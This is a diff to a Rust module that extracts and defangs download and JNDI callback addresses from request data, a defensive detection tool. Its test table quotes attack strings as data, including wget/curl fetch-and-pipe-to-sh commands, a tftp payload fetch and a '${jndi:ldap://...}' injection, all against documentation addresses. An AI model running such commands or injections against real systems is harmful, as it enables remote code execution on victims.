@@ -15,7 +15,7 @@ const MAX_INDICATORS: usize = 16;
 
 /// A program that fetches, and the first address after it; or the address of a JNDI look-up. A `/` after
 /// the program's name makes it a user agent.
-const PATTERN: &str = r#"(?:\b(?:wget|curl|fetch|lynx|aria2c|tftp|ftpget|certutil|bitsadmin|iwr|invoke-webrequest|downloadstring|downloadfile)(?:\.exe)?[^/;|&\n\w][^;|&\n]{0,60}?|\bjndi:)\b((?:(?:https?|tftp|ftp|ldaps?|rmi|dns|iiop|corba|nis|nds):?[/\\]{2,4})[^\s"'<>|;&`(){}$,]{3,200}|\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?(?:/[^\s"'<>|;&`(){}$,]{0,200})?)"#;
+const PATTERN: &str = r#"(?:\b(?:wget|curl|fetch|lynx|aria2c|tftp|ftpget|certutil|bitsadmin|iwr|invoke-webrequest|downloadstring|downloadfile)(?:\.exe)?[^/;|&\n\w][^;|&\n]{0,60}?|\bjndi:)\b((?:(?:https?|tftp|ftp|ldaps?|rmi|dns|iiop|corba|nis|nds):?[/\\]{2,4})[^\s"'<>|;&`(){}$,+]{3,200}|\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?(?:/[^\s"'<>|;&`(){}$,+]{0,200})?)"#;
 
 static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
     let built = RegexBuilder::new(PATTERN).unicode(false).build();
@@ -33,11 +33,16 @@ pub struct Indicator {
 }
 
 /// Returns the addresses that a request would have its victim fetch or call, each once.
-pub(crate) fn indicators(views: &[Text]) -> Vec<Indicator> {
+pub(crate) fn indicators(raw: &[u8], views: &[Text]) -> Vec<Indicator> {
     let mut indicators: Vec<Indicator> = Vec::new();
     for text in views {
         for found in ADDRESS.captures_iter(&text.bytes).filter_map(|captures| captures.get(1)) {
-            let address = defanged(found.as_bytes());
+            // In its case, where a byte was sent as itself.
+            let in_its_case = |at: usize| match text.raw_range(at..at + 1) {
+                place if place.len() == 1 => raw.get(place.start).copied(),
+                _ => text.bytes.get(at).copied(),
+            };
+            let address = defanged(&found.range().filter_map(in_its_case).collect::<Vec<_>>());
             if indicators.len() < MAX_INDICATORS && indicators.iter().all(|held| held.address != address) {
                 indicators.push(Indicator { address, evidence: text.raw_range(found.range()) });
             }
@@ -72,10 +77,10 @@ mod tests {
     use super::*;
 
     fn addresses(raw: &[u8]) -> Vec<String> {
-        let raw = Text::raw(raw, 0);
-        let decoded = raw.decoded(false);
-        let views: Vec<Text> = [Some(raw), decoded].into_iter().flatten().collect();
-        indicators(&views).into_iter().map(|indicator| indicator.address).collect()
+        let sent = Text::raw(raw, 0);
+        let decoded = sent.decoded(false);
+        let views: Vec<Text> = [Some(sent), decoded].into_iter().flatten().collect();
+        indicators(raw, &views).into_iter().map(|indicator| indicator.address).collect()
     }
 
     #[test]
@@ -84,6 +89,7 @@ mod tests {
             (&b"GET /?x=;wget+http://198.51.100.1/a.sh;sh+a.sh HTTP/1.1"[..], "hxxp://198[.]51[.]100[.]1/a.sh"),
             (b"wget http:/\\/198.51.100.1/arm7;", "hxxp://198[.]51[.]100[.]1/arm7"),
             (b"cd /tmp; wget 198.51.100.2:81/x -O y", "198[.]51[.]100[.]2:81/x"),
+            (b"wget+http://198.51.100.4/X.Sh+-O-|sh", "hxxp://198[.]51[.]100[.]4/X.Sh"),
             (b"tftp -g -r mips 198.51.100.3;", "198[.]51[.]100[.]3"),
             (b"curl%20-s%20ftp%3A%2f%2fexample.com/q|sh", "fxp://example[.]com/q"),
             (b"${jndi:ldap://example.com:1389/a}", "ldap://example[.]com:1389/a"),
